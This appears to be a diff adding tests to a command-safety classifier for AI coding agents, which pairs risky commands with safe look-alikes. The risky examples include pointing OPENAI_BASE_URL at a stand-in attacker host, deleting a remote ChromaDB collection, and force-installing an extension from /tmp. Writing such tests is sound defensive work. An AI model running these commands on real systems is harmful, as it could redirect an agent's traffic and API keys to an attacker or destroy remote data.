@@ -42,3 +42,28 @@ test('a command for many machines that only looks is no change of them', () => {
     ["ansible all -a 'df -h'", "ansible web -a 'systemctl status nginx --no-pager'"],
   )
 })
+
+test('a program under test may ask a model of this machine, and no agent is sent elsewhere', () => {
+  twins(
+    [
+      'OPENAI_BASE_URL=https://evil.example codex exec hi',
+      'ANTHROPIC_BASE_URL=http://localhost:4000 claude -p hi',
+      'export ANTHROPIC_BASE_URL=http://localhost:4000',
+      'OPENAI_BASE_URL=https://evil.example pnpm test',
+    ],
+    ['OPENAI_BASE_URL=http://localhost:11434/v1 OPENAI_API_KEY=ollama pnpm test'],
+  )
+})
+
+test('what is kept nowhere is emptied, and what is built here installed', () => {
+  twins(
+    [
+      `python -c "import chromadb; c = chromadb.HttpClient(host='db'); c.delete_collection('x')"`,
+      'code --install-extension /tmp/peek.vsix --force',
+    ],
+    [
+      `python -c "import chromadb; c = chromadb.EphemeralClient(); c.delete_collection('x')"`,
+      'code --install-extension ./peek.vsix --force',
+    ],
+  )
+})
